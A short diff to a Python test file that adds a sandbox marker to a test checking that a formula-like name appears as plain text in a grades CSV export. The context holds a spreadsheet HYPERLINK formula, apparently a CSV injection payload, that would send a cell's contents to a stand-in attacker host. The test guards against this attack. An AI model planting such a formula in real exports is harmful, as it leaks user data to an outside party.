@@ -21,6 +21,7 @@ DATABASES = ("sqlite",)
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
+@pytest.mark.bwrap
 async def test_a_formula_name_is_plain_text_in_grades_csv(
     server: LiveServer, tmp_path: Path
 ) -> None:
